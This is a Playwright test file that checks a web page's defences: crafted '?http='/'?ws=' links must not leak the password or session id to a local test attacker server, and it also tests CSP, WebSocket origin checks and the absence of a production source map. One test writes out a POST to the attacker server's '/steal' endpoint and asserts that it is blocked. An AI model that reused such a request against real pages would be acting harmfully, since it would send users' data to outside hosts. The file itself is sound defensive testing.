import assert from 'assert';
import { mkdtemp, readdir, readFile, rm } from 'fs/promises';
import { tmpdir } from 'os';
import { join } from 'path';
import { BrowserContext, Page } from 'playwright-core';
import { startExample } from '../../backend/src/index';
import { buildWebPage } from '../../frontend/build';
import { AttackerServer, startAttackerServer } from '../helpers/attackerServer';
import { logIn, submitLogin, waitForText } from '../helpers/browserPage';
import { freePort } from '../helpers/freePort';
import { useExamplePage } from '../helpers/pageHarness';
import { TEST_SECRETS } from '../helpers/sessionServer';
import { silentLogger } from '../helpers/transports';

/**
 * Issue 12 item 1: a link to the real page with `?http=`/`?ws=` pointing at another server must
 * not send that server the password typed into the page or the session id the page holds. Since
 * the page and its API share one origin (issue 13), the page takes no address from anywhere.
 */
describe('example page in Chromium: a link cannot point the page at another server', function () {
    this.timeout(60_000);
    const examplePage = useExamplePage();
    let attacker: AttackerServer | undefined;

    beforeEach(async () => {
        attacker = await startAttackerServer();
    });

    afterEach(async () => {
        await attacker?.stop();
    });

    async function open(device: BrowserContext, query: Record<string, string>): Promise<Page> {
        const page = await device.newPage();
        await page.goto(`${examplePage.served.web.origin}/?${new URLSearchParams(query)}`);
        return page;
    }

    /** The page has answered its calls, or the attacker heard from it: whichever comes first. */
    async function settled(page: Page): Promise<void> {
        const pageDone = page.waitForFunction(() => !document.body.hasAttribute('aria-busy') && document.getElementById('account')?.textContent !== '', undefined, { timeout: 5000 });
        const attackerHeard = new Promise<void>(ok => {
            const timer = setInterval(() => {
                const { requests, upgrades } = attacker!.log;
                if (requests.length + upgrades.length > 0) { clearInterval(timer); ok(); }
            }, 20);
            void pageDone.finally(() => clearInterval(timer)).catch(() => undefined);
        });
        await Promise.race([pageDone.catch(() => undefined), attackerHeard]);
        // Calls already on their way get a moment to arrive.
        await page.waitForTimeout(300);
    }

    it('?http=<other host>: the password typed into the page goes to the page\'s own API only', async () => {
        const page = await open(await examplePage.newDevice(), { http: attacker!.httpUrl, ws: attacker!.wsUrl });
        await page.getByRole('heading', { name: 'Account' }).waitFor();
        await submitLogin(page, 'alice', 'wonderland');
        await settled(page);
        assert.doesNotMatch(attacker!.received, /wonderland/, 'the attacker received the password');
        assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
        await page.getByText('Signed in as Alice').waitFor();
        assert.strictEqual(await page.locator('#server').textContent(), examplePage.apiUrl('http'));
    });

    for (const transport of ['http', 'ws'] as const) {
        it(`after a login over ${transport}, ?http=/?ws=<other host> (transport=${transport}) send the session id nowhere`, async () => {
            const device = await examplePage.newDevice();
            const first = await open(device, { transport });
            await first.getByRole('heading', { name: 'Account' }).waitFor();
            await logIn(first, 'alice', 'wonderland');
            const sid = (await device.cookies()).find(cookie => cookie.name === '__Host-sid')?.value;
            assert.ok(sid, 'the login set the session cookie');

            // The link an attacker sends: the real page, its API addresses pointing elsewhere.
            const linked = await open(device, { http: attacker!.httpUrl, ws: attacker!.wsUrl, transport });
            await settled(linked);
            assert.ok(!attacker!.received.includes(sid.split('.')[0]), 'the attacker received the session id');
            assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
            await linked.getByText('Signed in as Alice').waitFor();
            await waitForText(linked, '#server', examplePage.apiUrl(transport));
        });
    }

    it('a production build has no source map, and the page names none', async () => {
        assert.deepStrictEqual((await readdir(examplePage.served.outdir)).sort(), ['index.html', 'main.js', 'style.css']);
        assert.doesNotMatch(await readFile(join(examplePage.served.outdir, 'main.js'), 'utf8'), /sourceMappingURL/);
        const development = await buildWebPage(await mkdtemp(join(tmpdir(), 'tsrpc-session-page-dev-')), { development: true });
        try {
            assert.ok((await readdir(development)).includes('main.js.map'));
        } finally {
            await rm(development, { recursive: true, force: true });
        }
    });

    it('sends a Content-Security-Policy that lets the page connect to its own origin only and never be framed', async () => {
        const page = await (await examplePage.newDevice()).newPage();
        const response = await page.goto(`${examplePage.served.web.origin}/`);
        const csp = response!.headers()['content-security-policy'];
        assert.ok(csp, 'a Content-Security-Policy header');
        const directives = new Map(csp.split(';').map(d => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
        const host = new URL(examplePage.served.web.origin).host;
        assert.deepStrictEqual(directives.get('connect-src'), ["'self'", `ws://${host}`, `wss://${host}`]);
        assert.deepStrictEqual(directives.get('frame-ancestors'), ["'none'"]);
        assert.deepStrictEqual(directives.get('default-src'), ["'none'"]);
        // The browser enforces it: a script on the page cannot reach another server, nor the API servers behind the page.
        await page.getByRole('heading', { name: 'Account' }).waitFor();
        const post = (url: string) => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked');
        assert.strictEqual(await page.evaluate(post, `${attacker!.httpUrl}/steal`), 'blocked');
        assert.strictEqual(await page.evaluate(post, `http://127.0.0.1:${examplePage.upstreams!.http.port}/api/GetMe`), 'blocked');
        assert.deepStrictEqual(attacker!.log.requests, []);
    });

    it('a page of another origin cannot open the page\'s WebSocket (allowed origins), the example page can', async () => {
        const device = await examplePage.newDevice();
        const foreign = await device.newPage();
        await foreign.goto(`${attacker!.httpUrl}/`);
        const tryWebSocket = (url: string) => new Promise<string>(ok => {
            const socket = new WebSocket(url);
            socket.onopen = () => { socket.close(); ok('open'); };
            socket.onerror = () => ok('refused');
        });
        assert.strictEqual(await foreign.evaluate(tryWebSocket, examplePage.apiUrl('ws')), 'refused');
        const own = await open(device, {});
        await own.getByRole('heading', { name: 'Account' }).waitFor();
        assert.strictEqual(await own.evaluate(tryWebSocket, examplePage.apiUrl('ws')), 'open');
    });

    it('started from its environment: one origin on WEB_PORT, the API servers on loopback at HTTP_PORT and WS_PORT behind it', async () => {
        const ports = { WEB_PORT: await freePort(), HTTP_PORT: await freePort(), WS_PORT: await freePort() };
        const example = await startExample({
            ...Object.fromEntries(Object.entries(ports).map(([name, port]) => [name, String(port)])),
            WEB_ROOT: examplePage.served.outdir, SESSION_SECRETS: TEST_SECRETS.join(','),
        }, silentLogger);
        try {
            const origin = `http://127.0.0.1:${ports.WEB_PORT}`;
            assert.deepStrictEqual(example.api, { httpUrl: `${origin}/api`, wsUrl: `ws://127.0.0.1:${ports.WEB_PORT}/ws` });
            const proxySecret = example.upstreams?.http.proxySecret;
            assert.ok(typeof proxySecret === 'string' && proxySecret.length >= 32, 'the forwarder proves itself to the API servers with a random secret');
            assert.deepStrictEqual(example.upstreams, { http: { host: '127.0.0.1', port: ports.HTTP_PORT, proxySecret }, ws: { host: '127.0.0.1', port: ports.WS_PORT, proxySecret } });
            assert.deepStrictEqual([example.app.http.httpServer?.address()], [{ address: '127.0.0.1', family: 'IPv4', port: ports.HTTP_PORT }]);
            const page = await (await examplePage.newDevice()).newPage();
            await page.goto(`${origin}/`);
            await logIn(page, 'alice', 'wonderland');
            assert.strictEqual(await page.locator('#server').textContent(), `${origin}/api/`);
            await page.getByText('WebSocket', { exact: true }).click();
            await waitForText(page, '#server', `ws://127.0.0.1:${ports.WEB_PORT}/ws`);
            await page.getByText('Signed in as Alice').waitFor();
            assert.ok(example.app.ws.connections.length > 0, 'the page calls over its WebSocket');
        } finally {
            await examplePage.closeDevices();
            await example.stop();
        }
    });
});
